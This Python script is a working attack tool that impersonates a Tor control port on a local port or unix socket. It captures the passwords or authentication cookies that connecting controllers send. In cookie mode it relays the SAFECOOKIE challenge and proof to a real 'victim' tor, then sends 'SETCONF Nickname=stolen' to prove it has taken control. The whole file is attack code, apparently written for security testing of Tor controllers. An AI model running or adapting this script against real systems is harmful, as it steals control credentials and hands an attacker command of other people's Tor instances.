#!/usr/bin/python3
# Stands where a control port should be, and takes from whoever comes what opens another one. As another user (--user), for
# who would bind the port of a tunnel that is down. One line of standard output for each thing that happens.
#
#   cookie VICTIM COOKIEFILE   names the cookie file of the tor at VICTIM, relays the challenge to that tor's control port
#                              and the proof too, and says OPENED when that tor lets it in and takes a command
#   password                   offers HASHEDPASSWORD, and says PASSWORD with what it is sent
#   plain                      offers COOKIE alone, and says COOKIE with what it is sent
#
# Places are ports of 127.0.0.1, or paths of unix sockets.

import argparse
import os
import pwd
import socket
import threading


def listen(place):
    if place.isdigit():
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.bind(('127.0.0.1', int(place)))
    else:
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(place)
        os.chmod(place, 0o777)
    listener.listen()
    return listener


def connect(place):
    if place.isdigit():
        return socket.create_connection(('127.0.0.1', int(place)))
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(place)
    return connection


def quote(text):
    return '"' + text.replace('\\', '\\\\').replace('"', '\\"') + '"'


def say(*words):
    print(*words, flush=True)


class Thief:
    def __init__(self, arguments):
        self.arguments = arguments

    def serve(self, connection):
        """Talks to one who has come."""
        lines = connection.makefile('rw', newline='\r\n')
        victim = None
        for line in lines:
            command = line.strip()
            if command.startswith('PROTOCOLINFO'):
                reply = self.protocol_info()
            elif command.startswith('AUTHCHALLENGE'):
                victim = connect(self.arguments.victim).makefile('rw', newline='\r\n')
                say('CHALLENGED')
                reply = ask(victim, command)
            elif command.startswith('AUTHENTICATE'):
                return self.take(command, victim)
            else:
                return None
            lines.write(reply + '\n')
            lines.flush()
        return None

    def protocol_info(self):
        methods = {'cookie': f'COOKIE,SAFECOOKIE COOKIEFILE={quote(self.arguments.cookie or "")}',
                   'password': 'HASHEDPASSWORD', 'plain': 'COOKIE COOKIEFILE="/some/file"'}[self.arguments.what]
        return f'250-PROTOCOLINFO 1\n250-AUTH METHODS={methods}\n250-VERSION Tor="0.4.9.11"\n250 OK'

    def take(self, command, victim):
        """Uses what authenticates the one who has come."""
        if self.arguments.what in ('password', 'plain'):
            secret = command.partition(' ')[2]
            return say({'password': 'PASSWORD', 'plain': 'COOKIE'}[self.arguments.what],
                       bytes.fromhex(secret).decode(errors='replace') if secret else '')
        verdict = ask(victim, command)
        power = ask(victim, 'SETCONF Nickname=stolen') if verdict == '250 OK' else ''
        return say('OPENED' if power == '250 OK' else 'REFUSED', verdict)

    def talk(self, connection):
        with connection:
            try:
                self.serve(connection)
            except OSError as error:
                say('LOST', error)
        say('GONE')


def ask(victim, command):
    """Has the victim answer a command whose reply is one line."""
    victim.write(command + '\n')
    victim.flush()
    return victim.readline().strip()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument('--user')
    parser.add_argument('place')
    parser.add_argument('what', choices=('cookie', 'password', 'plain'))
    parser.add_argument('victim', nargs='?')
    parser.add_argument('cookie', nargs='?')
    arguments = parser.parse_args()
    if arguments.user:
        user = pwd.getpwnam(arguments.user)
        os.setgroups([])
        os.setgid(user.pw_gid)
        os.setuid(user.pw_uid)
    listener = listen(arguments.place)
    say('LISTENING')
    thief = Thief(arguments)
    while True:
        connection, _ = listener.accept()
        threading.Thread(target=thief.talk, args=(connection,), daemon=True).start()


main()
